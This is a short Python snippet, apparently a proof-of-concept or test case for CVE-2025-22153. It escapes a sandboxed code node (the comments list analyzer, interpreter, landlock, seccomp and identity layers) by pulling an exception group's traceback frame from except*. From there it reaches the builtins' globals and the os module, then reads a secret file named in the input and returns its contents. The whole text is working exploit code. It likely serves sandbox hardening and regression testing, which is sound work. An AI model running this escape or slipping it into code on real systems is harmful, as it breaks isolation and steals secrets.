# class: exceptions and frames
# technique: except* hands over a group, whose traceback has frames
# advisory: CVE-2025-22153
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    [][0]
except* IndexError as group:
    g = group.exceptions[0].__traceback__.tb_frame.f_builtins["quit"].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
